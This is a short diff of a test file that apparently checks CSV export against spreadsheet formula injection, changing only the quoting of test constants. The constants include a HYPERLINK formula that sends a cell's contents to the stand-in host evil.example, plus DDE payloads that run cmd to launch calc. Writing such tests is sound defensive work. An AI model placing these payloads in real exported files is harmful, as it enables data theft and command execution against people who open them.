@@ -22,8 +22,8 @@ afterEach(async () => {
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez ici")';
 const DDE = "+cmd|' /C calc'!A0";
-const AT_SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
-const MINUS = '-2+3+cmd|\' /C calc\'!A0';
+const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
+const MINUS = "-2+3+cmd|' /C calc'!A0";
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 /** Cells of a CSV as a spreadsheet reads them, header row first. */
